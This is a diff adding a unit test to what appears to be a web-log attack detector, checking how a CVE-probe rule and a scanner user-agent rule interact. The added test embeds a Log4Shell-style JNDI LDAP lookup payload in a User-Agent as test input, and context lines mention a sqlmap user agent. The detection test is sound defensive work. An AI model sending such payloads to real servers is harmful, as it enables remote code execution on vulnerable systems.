@@ -162,6 +162,16 @@ test('every rule id has a positive and a negative case in the tables', async () 
   }
 });
 
+test('probe.cve: exploits in the User-Agent count with ua.scanner disabled, and not with probe.cve disabled', async () => {
+  const { resolveRules } = await import('../../halog/detect/rules.js');
+  const lines = [http({ uri: '/', ua: '$#7Bjndi:ldap://198.51.100.1:1389/a#7D' })];
+  const withoutUa = judgeOne(lines, undefined, { rules: resolveRules({ rules: { 'ua.scanner': { enabled: false } } }) });
+  assert.equal(withoutUa.byId.get('probe.cve')?.fired, true);
+  const withoutCve = judgeOne(lines, undefined, { rules: resolveRules({ rules: { 'probe.cve': { enabled: false } } }) });
+  assert.equal(withoutCve.byId.get('probe.cve'), undefined);
+  assert.equal(withoutCve.verdict, 'clean');
+});
+
 test('verdicts: a tool user agent alone does not flag; with a probe it is malicious', () => {
   const alone = judgeOne([http({ ua: 'sqlmap/1.7.2' })]);
   assert.equal(alone.verdict, 'clean');
